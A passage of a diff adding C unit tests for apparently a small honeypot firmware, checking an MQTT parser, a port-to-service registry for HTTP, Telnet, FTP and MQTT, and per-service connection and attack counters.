+    memset(&parser, 0, sizeof(parser));
+    mqtt_parser_execute(&parser, not_mqtt, sizeof(not_mqtt));
+    TEST_ASSERT(mqtt_parser_peek_level(&parser, not_mqtt, sizeof(not_mqtt), &level));
+    TEST_ASSERT_EQUAL(0, level);
+}
+
+/* ------------------------------------------------------------------ */
+/* Service registry                                                    */
+/* ------------------------------------------------------------------ */
+
+static void test_registry_lookup_every_port(void)
+{
+    static const struct {
+        uint16_t port;
+        const char *name;
+    } EXPECTED[] = {
+        { 80, "http" }, { 8080, "http" }, { 23, "telnet" }, { 2323, "telnet" },
+        { 21, "ftp" }, { FTP_PASV_PORT, "ftp" }, { 1883, "mqtt" },
+    };
+    const size_t expected_count = sizeof(EXPECTED) / sizeof(EXPECTED[0]);
+    uint16_t ports[SERVICE_REGISTRY_MAX * SERVICE_MAX_PORTS];
+
+    TEST_ASSERT_EQUAL(expected_count,
+                      service_registry_default_ports(ports, sizeof(ports) / sizeof(ports[0])));
+    for (size_t i = 0; i < expected_count; i++) {
+        uint8_t id = service_registry_lookup(EXPECTED[i].port);
+        TEST_ASSERT(id < service_registry_count());
+        TEST_ASSERT_EQUAL_STRING(EXPECTED[i].name, service_registry_get(id)->name);
+        TEST_ASSERT_EQUAL(EXPECTED[i].port, ports[i]);
+    }
+
+    // No other port resolves to a service
+    size_t hits = 0;
+    for (uint32_t port = 0; port <= UINT16_MAX; port++) {
+        hits += service_registry_lookup((uint16_t)port) != SERVICE_ID_NONE;
+    }
+    TEST_ASSERT_EQUAL(expected_count, hits);
+    TEST_ASSERT(service_registry_get(SERVICE_ID_NONE) == NULL);
+
+    // A short port list keeps the first entries
+    TEST_ASSERT_EQUAL(3, service_registry_default_ports(ports, 3));
+    TEST_ASSERT_EQUAL(23, ports[2]);
+}
+
+static void test_registry_counts_per_service(void)
+{
+    static socket_conn_t conn;
+    uint8_t telnet = service_registry_lookup(2323);
+    uint8_t mqtt = service_registry_lookup(1883);
+
+    metrics_reset();
+    open_conn(&conn, 2323);
+    service_registry_on_connect(&conn);
+    service_registry_on_close(&conn);
+    service_registry_count_attack(2323);
+    service_registry_count_attack(1883);
+    service_registry_count_attack(1883);
+
+    // Unknown ports count towards the total but no service
+    open_conn(&conn, 9999);
+    service_registry_on_connect(&conn);
+    service_registry_count_attack(9999);
+
+    TEST_ASSERT_EQUAL(1, metrics_get_service_counter(telnet, METRIC_SERVICE_CONNECTIONS));
+    TEST_ASSERT_EQUAL(1, metrics_get_service_counter(telnet, METRIC_SERVICE_ATTACKS));
+    TEST_ASSERT_EQUAL(2, metrics_get_service_counter(mqtt, METRIC_SERVICE_ATTACKS));
+    TEST_ASSERT_EQUAL(0, metrics_get_service_counter(mqtt, METRIC_SERVICE_CONNECTIONS));
+    TEST_ASSERT_EQUAL(4, metrics_get_counter(METRIC_ATTACKS_LOGGED));
+}
+
+int main(void)
+{
+    esp_log_level_set("*", ESP_LOG_NONE);
+    if (attack_signatures_init() != ESP_OK || service_registry_init() != ESP_OK) {
+        fprintf(stderr, "init failed\n");
+        return 1;
+    }
+
+    RUN_TEST(test_http_parser_fields);
+    RUN_TEST(test_http_parser_body_stops_at_content_length);
+    RUN_TEST(test_http_parser_split_invariance);
+    RUN_TEST(test_http_parser_rejects_non_http);
+    RUN_TEST(test_http_service_logs_post_credentials);
+    RUN_TEST(test_http_service_credentials_stay_in_body);
+    RUN_TEST(test_http_service_split_request);
+    RUN_TEST(test_http_service_bad_request);
+    RUN_TEST(test_telnet_pipelined_login);
+    RUN_TEST(test_telnet_split_invariance);
+    RUN_TEST(test_shell_builtins_found);
+    RUN_TEST(test_shell_bot_probes);
+    RUN_TEST(test_ftp_login_and_commands);
+    RUN_TEST(test_ftp_upload_is_streamed);
+    RUN_TEST(test_ftp_listing_waits_for_data_connection);
+    RUN_TEST(test_mqtt_connect_outcomes);
+    RUN_TEST(test_mqtt_split_invariance);
+    RUN_TEST(test_mqtt_peek_level_waits_for_level);
+    RUN_TEST(test_registry_lookup_every_port);
+    RUN_TEST(test_registry_counts_per_service);
+    return TEST_SUMMARY();
+}